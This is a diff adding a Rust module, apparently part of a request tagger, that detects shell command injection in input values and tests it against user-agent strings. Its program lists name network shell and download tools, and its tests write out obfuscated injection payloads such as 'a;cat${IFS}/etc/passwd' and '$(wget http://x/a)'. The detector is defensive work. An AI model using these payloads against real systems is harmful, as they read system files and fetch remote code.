@@ -1,0 +1,387 @@
+//! A shell's reading of a value, for command injection.
+//!
+//! Lists of payload strings miss the next spelling of the same command, so this reads a value the
+//! way a shell would after an injection point. Wherever a shell starts a new command (after `;`,
+//! `|`, `&`, a line break, or inside `` ` ``, `$(`, `<(`, `>(`), the next word is read as the shell
+//! reads it: quotes and backslashes removed, empty expansions (`$@`, `$*`, `$1`, `${x}`, `$()`, an
+//! unset `$var`) dropped, `$IFS` and tabs as blanks, a brace list (`{cat,/etc/passwd}`) opened.
+//! The word is then judged: a program whose name is never an ordinary word (`whoami`, `wget`,
+//! `powershell`) is a command; one whose name is also a word (`cat`, `ping`, `sleep`) is a command
+//! when what follows is what only a command line has (an option, a path, a variable, a number, a
+//! redirection, another separator or the end of the value); a glob spelling of a system path
+//! (`/b??/c?t`) stands for the program it can only mean. The text is already normalised (decoded
+//! and lower-cased where the tagger normalises), and matching ignores ASCII case anyway.
+
+/// Programs whose names are never ordinary words.
+const PROGRAMS: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "busybox",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "powershell.exe",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "wmic",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "chmod",
+    "chown",
+    "crontab",
+    "nohup",
+    "xargs",
+    "base64",
+    "hostname",
+    "getent",
+    "useradd",
+    "sudo",
+    "uptime",
+    "ls",
+    "pwd",
+    "tftp",
+    "scp",
+    "ssh",
+    "gcc",
+    "awk",
+    "gawk",
+    "sed",
+    "grep",
+    "egrep",
+    "ifup",
+    "iptables",
+    "lsb_release",
+    "wevtutil",
+    "reg",
+    "schtasks",
+    "icacls",
+    "iex",
+    "sleep.exe",
+    "ping.exe",
+];
+
+/// Programs whose names are also words, commands only with a command line's arguments.
+const WORD_PROGRAMS: &[&str] = &[
+    "cat",
+    "tac",
+    "id",
+    "echo",
+    "ping",
+    "sleep",
+    "kill",
+    "find",
+    "time",
+    "ps",
+    "rm",
+    "cp",
+    "mv",
+    "env",
+    "dir",
+    "type",
+    "set",
+    "more",
+    "less",
+    "head",
+    "tail",
+    "sort",
+    "touch",
+    "who",
+    "w",
+    "last",
+    "date",
+    "expr",
+    "printf",
+    "timeout",
+    "exec",
+    "eval",
+    "export",
+    "net",
+    "dig",
+    "host",
+    "tar",
+    "zip",
+    "unzip",
+    "mail",
+    "print",
+    "read",
+    "start",
+    "call",
+    "copy",
+    "del",
+    "od",
+    "nl",
+    "strings",
+    "file",
+    "test",
+    "node",
+    "sh.exe",
+    "whoami.exe",
+    "system",
+    "passthru",
+];
+
+/// Word programs whose first argument may be a plain number (`sleep 5`, `ping 10.0.0.1`).
+const NUMBER_TAKERS: &[&[u8]] = &[b"sleep", b"ping", b"timeout", b"kill", b"expr"];
+
+/// Whether `text` holds a command at a place where an injected shell command would start.
+pub fn injected(text: &[u8]) -> bool {
+    (0..text.len()).any(|i| match command_start(text, i) {
+        Some((start, opener)) => command_at(text, start, opener),
+        None => false,
+    })
+}
+
+/// What started a command.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Opener {
+    /// `;`, `|`, `&&`, `||`, a line break or a backtick.
+    Separator,
+    /// A lone `&`: also what separates a query's parameters.
+    Ampersand,
+    /// `$(`, `<(` or `>(`: the command may end at `)`.
+    Paren,
+}
+
+/// Where a command would start if the shell broke the text at `i`, and what broke it.
+fn command_start(text: &[u8], i: usize) -> Option<(usize, Opener)> {
+    let next = text.get(i + 1).copied();
+    match text[i] {
+        b';' | b'|' | b'\n' | b'\r' | b'`' => Some((i + 1, Opener::Separator)),
+        b'&' if next == Some(b'&') || (i > 0 && text[i - 1] == b'&') => {
+            Some((i + 1, Opener::Separator))
+        }
+        b'&' => Some((i + 1, Opener::Ampersand)),
+        b'$' | b'<' | b'>' if next == Some(b'(') => Some((i + 2, Opener::Paren)),
+        _ => None,
+    }
+}
+
+/// Whether a command is read at `start`.
+fn command_at(text: &[u8], start: usize, opener: Opener) -> bool {
+    let Some((word, end)) = read_word(text, start) else {
+        return false;
+    };
+    let name = program_name(&word);
+    let is = |list: &[&str]| list.iter().any(|p| p.as_bytes().eq_ignore_ascii_case(name));
+    if is(PROGRAMS) || glob_of_system_path(&word) {
+        return true;
+    }
+    let numbers = NUMBER_TAKERS.iter().any(|p| p.eq_ignore_ascii_case(name));
+    is(WORD_PROGRAMS) && command_line_follows(text, end, opener, numbers)
+}
+
+/// The word at `start` as a shell reads it (blanks before it skipped), and where it ends.
+fn read_word(text: &[u8], start: usize) -> Option<(Vec<u8>, usize)> {
+    let mut i = skip_blanks(text, start);
+    if text.get(i) == Some(&b'{') {
+        i += 1;
+    }
+    let mut word = Vec::new();
+    while i < text.len() && word.len() < 64 {
+        match text[i] {
+            b'\'' | b'"' => i += 1,
+            b'\\' => {
+                if let Some(&c) = text.get(i + 1).filter(|c| c.is_ascii_alphanumeric()) {
+                    word.push(c);
+                }
+                i += 2;
+            }
+            b'$' => match expansion(text, i) {
+                Expansion::Empty(n) => i += n,
+                Expansion::Blank(_) | Expansion::Other => break,
+            },
+            c if c.is_ascii_alphanumeric() || b"./_-*?[]~:".contains(&c) => {
+                word.push(c);
+                i += 1;
+            }
+            _ => break,
+        }
+    }
+    (!word.is_empty()).then_some((word, i))
+}
+
+/// What a `$` at `i` expands to, as far as reading a command goes, with its length in bytes.
+enum Expansion {
+    /// Nothing (`$@`, `$*`, `$1`, `$()`, `${...}`, an unset variable).
+    Empty(usize),
+    /// A blank (`$IFS`, `${IFS}`, `${IFS%??}`).
+    Blank(usize),
+    /// Something else (a lone `$`).
+    Other,
+}
+
+fn expansion(text: &[u8], i: usize) -> Expansion {
+    let rest = &text[i + 1..];
+    let lower = |n: usize| rest[..n.min(rest.len())].to_ascii_lowercase();
+    match rest.first() {
+        Some(b'@' | b'*' | b'0'..=b'9') => Expansion::Empty(2),
+        Some(b'(') if rest.get(1) == Some(&b')') => Expansion::Empty(3),
+        Some(b'{') => match rest.iter().position(|&c| c == b'}') {
+            Some(close) if lower(4) == b"{ifs" => Expansion::Blank(close + 2),
+            Some(close) => Expansion::Empty(close + 2),
+            None => Expansion::Other,
+        },
+        Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
+            let n = rest
+                .iter()
+                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                .count();
+            if lower(n) == b"ifs" {
+                Expansion::Blank(n + 1)
+            } else {
+                Expansion::Empty(n + 1)
+            }
+        }
+        _ => Expansion::Other,
+    }
+}
+
+/// `i` moved past blanks: spaces, tabs, `$IFS` in any spelling, and the empty expansions.
+fn skip_blanks(text: &[u8], mut i: usize) -> usize {
+    while i < text.len() {
+        match text[i] {
+            b' ' | b'\t' => i += 1,
+            b'$' => match expansion(text, i) {
+                Expansion::Blank(n) | Expansion::Empty(n) => i += n,
+                Expansion::Other => break,
+            },
+            _ => break,
+        }
+    }
+    i
+}
+
+/// The program a word names: the last component of a path.
+fn program_name(word: &[u8]) -> &[u8] {
+    match word.iter().rposition(|&c| c == b'/' || c == b'\\') {
+        Some(slash) => &word[slash + 1..],
+        None => word,
+    }
+}
+
+/// An absolute path of two or more components written with glob characters (`/b??/c?t`,
+/// `/???/n?`): only a shell expanding it to a program would write one.
+fn glob_of_system_path(word: &[u8]) -> bool {
+    let parts: Vec<&[u8]> = word.split(|&c| c == b'/').collect();
+    word.first() == Some(&b'/')
+        && parts.len() >= 3
+        && word.iter().any(|c| b"?*[".contains(c))
+        && parts[1..].iter().all(|p| {
+            !p.is_empty()
+                && p.iter()
+                    .all(|c| c.is_ascii_alphanumeric() || b"?*[]!".contains(c))
+        })
+}
+
+/// Whether what follows a word at `end` is what a command line has: an option, a path, a
+/// variable, a number, a quote, a redirection, a pipe, the `)` of a substitution, or the end of the
+/// value (except after a lone `&`, where the end is also that of a query parameter without a
+/// value). Not a `;`: user agents list their tokens between semicolons (`; Touch;`, `; U; id)`).
+fn command_line_follows(text: &[u8], end: usize, opener: Opener, numbers: bool) -> bool {
+    let i = skip_blanks(text, end);
+    let Some(&c) = text.get(i) else {
+        return opener != Opener::Ampersand;
+    };
+    let blank = i > end;
+    match c {
+        b'|' | b'`' | b'<' | b'>' | b'\n' | b'\r' => true,
+        b')' => opener == Opener::Paren,
+        b'&' => text.get(i + 1) == Some(&b'&'),
+        b',' => matches!(
+            text.get(i + 1),
+            Some(b'/' | b'-' | b'$' | b'~' | b'0'..=b'9')
+        ),
+        b'-' | b'/' | b'~' | b'$' | b'\'' | b'"' | b'\\' => blank || c == b'$',
+        b'.' => blank && matches!(text.get(i + 1), Some(b'/' | b'.')),
+        b'0'..=b'9' => blank && numbers,
+        b'a'..=b'z' | b'A'..=b'Z' => {
+            blank && text.get(i + 1) == Some(&b':') && matches!(text.get(i + 2), Some(b'\\' | b'/'))
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_after_separators_in_any_spelling() {
+        for s in [
+            ";id",
+            "x|id|",
+            "a;cat /etc/passwd",
+            "a&&whoami",
+            "`uname -a`",
+            "$(wget http://x/a)",
+            "a;c'a't /etc/passwd",
+            "a;c\\at /etc/passwd",
+            "a;w$@hoami",
+            "a;cat${IFS}/etc/passwd",
+            "a;cat$IFS$9/etc/passwd",
+            "a;{cat,/etc/passwd}",
+            "a;/b??/c?t /etc/passwd",
+            "a|/usr/bin/id",
+            "a;sleep 5",
+            "x\nping -c 3 127.0.0.1",
+            "a;type c:\\windows\\win.ini",
+            "a|powershell -enc abc",
+            "a;ping\t127.0.0.1",
+            "a;$u\\who$@am$()i",
+        ] {
+            assert!(injected(s.as_bytes()), "{s}");
+        }
+    }
+
+    #[test]
+    fn words_that_are_not_commands() {
+        for s in [
+            "rock & roll; cat videos",
+            "q=tom&id=5",
+            "q=shoes&sort=price&id",
+            "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36",
+            "mozilla/5.0 (x11; linux x86_64; rv:120.0) gecko/20100101 firefox/120.0",
+            "salt; pepper | time to eat",
+            "a=1&b=2&c=3",
+            "mozilla/5.0 (compatible; curl/7.1)",
+            "see you; last week",
+            "opera/9.80 (mtk; opera mini/2.1199/34.1244; u; id) presto/2.8.119",
+            "mozilla/5.0 (windows nt 6.3; arm; trident/7.0; touch; rv:11.0) like gecko",
+            "mozilla/4.0 (compatible; msie 7.0; windows nt 6.0; su 3.002; su 3.004; slcc1)",
+            "data=\n  (\n    node(18.18, 38.27);\n  out meta;",
+            "mozilla/5.0 (compatible; nmap scripting engine; https://nmap.org/book/nse.html)",
+        ] {
+            assert!(!injected(s.as_bytes()), "{s}");
+        }
+    }
+}
